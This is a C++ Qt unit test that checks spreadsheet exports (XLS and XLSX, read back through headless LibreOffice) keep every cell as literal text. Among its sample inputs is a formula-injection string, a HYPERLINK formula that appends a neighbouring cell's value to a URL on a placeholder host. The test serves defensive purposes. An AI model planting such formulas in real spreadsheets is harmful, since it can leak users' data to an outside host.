#include "engine/export/ExportRows.h"
#include "engine/export/ExportTables.h"
#include "engine/export/XlsExport.h"
#include "engine/export/XlsxExport.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QUrl>

#include <memory>

// What a spreadsheet program makes of an export: every data cell must read
// back as exactly the text of its field, never as a formula, a number or a
// date. LibreOffice opens the file headless and writes it out as CSV.
class TestSpreadsheetCells : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase();

    void cellsReadBackAsTheirText_data();
    void cellsReadBackAsTheirText();

private:
    // The rows of the sheet LibreOffice reads from `file`, as UTF-8 CSV.
    QList<QStringList> readBack(const QString &file);
    QString m_office;
    std::unique_ptr<QTemporaryDir> m_dir;
};

namespace {

// Texts a spreadsheet program would take for something else.
const QStringList Treacherous = {
    QStringLiteral("=1+1"),
    QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&B2;\"clic\")"),
    QStringLiteral("00120"),
    QStringLiteral("1.000"),
    QStringLiteral("3e5"),
    QStringLiteral("-3"),
    QStringLiteral("50%"),
    QStringLiteral("12/03/2024"),
    QStringLiteral("1,5"),
    QStringLiteral("TRUE"),
    QStringLiteral("+39 0541 123456"),
    QStringLiteral("<b>Rossi</b> & \"figli\""),
    QStringLiteral("Città € 5 'uno'"),
};

// One field of CSV text from `at`, which moves past it and its separator.
QString csvField(const QString &line, qsizetype &at)
{
    QString field;
    if (at < line.size() && line.at(at) == QLatin1Char('"')) {
        for (++at; at < line.size(); ++at) {
            if (line.at(at) == QLatin1Char('"')) {
                if (at + 1 < line.size() && line.at(at + 1) == QLatin1Char('"')) {
                    field += QLatin1Char('"');
                    ++at;
                } else {
                    ++at;
                    break;
                }
            } else {
                field += line.at(at);
            }
        }
    } else {
        while (at < line.size() && line.at(at) != QLatin1Char(','))
            field += line.at(at++);
    }
    ++at;  // the separator
    return field;
}

} // namespace

void TestSpreadsheetCells::initTestCase()
{
    m_office = QStandardPaths::findExecutable(QStringLiteral("soffice"));
    if (m_office.isEmpty())
        m_office = QStandardPaths::findExecutable(QStringLiteral("libreoffice"));
    // The test set-up installs LibreOffice: without it this check would be
    // silently lost.
    QVERIFY2(!m_office.isEmpty(), "LibreOffice (soffice) is not installed");
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
}

QList<QStringList> TestSpreadsheetCells::readBack(const QString &file)
{
    const QString out = m_dir->filePath(QStringLiteral("csv"));
    QProcess office;
    office.setProgram(m_office);
    office.setArguments({QStringLiteral("-env:UserInstallation=")
                             + QUrl::fromLocalFile(m_dir->filePath(QStringLiteral("profile"))).toString(),
                         QStringLiteral("--headless"), QStringLiteral("--convert-to"),
                         // Comma, double quotes, UTF-8, from the first line.
                         QStringLiteral("csv:Text - txt - csv (StarCalc):44,34,76,1"), QStringLiteral("--outdir"),
                         out, file});
    office.start();
    if (!office.waitForFinished(90000) || office.exitCode() != 0)
        return {};
    QFile csv(QDir(out).filePath(QFileInfo(file).completeBaseName() + QStringLiteral(".csv")));
    if (!csv.open(QIODevice::ReadOnly))
        return {};
    QList<QStringList> rows;
    const QStringList lines = QString::fromUtf8(csv.readAll()).split(QStringLiteral("\n"), Qt::SkipEmptyParts);
    for (QString line : lines) {
        if (line.endsWith(QLatin1Char('\r')))
            line.chop(1);
        QStringList fields;
        for (qsizetype at = 0; at <= line.size();)
            fields << csvField(line, at);
        rows << fields;
    }
    return rows;
}

void TestSpreadsheetCells::cellsReadBackAsTheirText_data()
{
    QTest::addColumn<QString>("fileName");
    QTest::newRow("xls") << QStringLiteral("Ricevute.xls");
    QTest::newRow("xlsx") << QStringLiteral("Ricevute.xlsx");
}

void TestSpreadsheetCells::cellsReadBackAsTheirText()
{
    QFETCH(QString, fileName);
    const ExportDefinition &receipts = ExportTables::definition(ExportArchive::Ricevute);
    // Each treacherous text in the first column, and in a column of its own
    // beside a plain one.
    ExportRows rows(receipts.columnCount());
    for (const QString &text : Treacherous)
        rows.appendRow({text, QStringLiteral("05/01/2026"), QStringLiteral("Rossi"), text, QStringLiteral("Affitto"),
                        QString(), QStringLiteral("120,00")});
    const QString file = m_dir->filePath(fileName);
    const bool written = fileName.endsWith(QStringLiteral(".xlsx")) ? XlsxExport::write(file, receipts, rows)
                                                                     : XlsExport::write(file, receipts, rows);
    QVERIFY(written);

    const QList<QStringList> sheet = readBack(file);
    QCOMPARE(sheet.size(), Treacherous.size() + 1);
    QCOMPARE(sheet.first().value(0), QStringLiteral("Ricevuta n."));
    for (qsizetype row = 0; row < Treacherous.size(); ++row) {
        const QStringList &cells = sheet.at(row + 1);
        QCOMPARE(cells.value(0), Treacherous.at(row));
        QCOMPARE(cells.value(3), Treacherous.at(row));
        QCOMPARE(cells.value(6), QStringLiteral("120,00"));
    }
}

QTEST_GUILESS_MAIN(TestSpreadsheetCells)
#include "tst_spreadsheetcells.moc"
